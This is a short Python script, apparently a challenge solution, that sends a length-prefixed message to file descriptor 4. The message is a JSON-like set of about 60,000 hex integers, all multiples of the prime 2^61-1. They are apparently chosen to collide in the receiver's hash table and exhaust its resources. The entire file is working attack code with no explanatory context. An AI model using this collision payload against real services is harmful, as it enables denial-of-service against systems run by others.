import os, struct


def send(text, fd=4):
    os.write(fd, struct.pack("<I", len(text)) + text)


def solve(secret, victim):
    prime = 2**61 - 1
    body = b",".join(b'{"$i":"%x"}' % (prime * k) for k in range(1, 60_000))
    send(b'{"ok":[{"$s":[' + body + b']}],"ns":1}')
    os._exit(0)
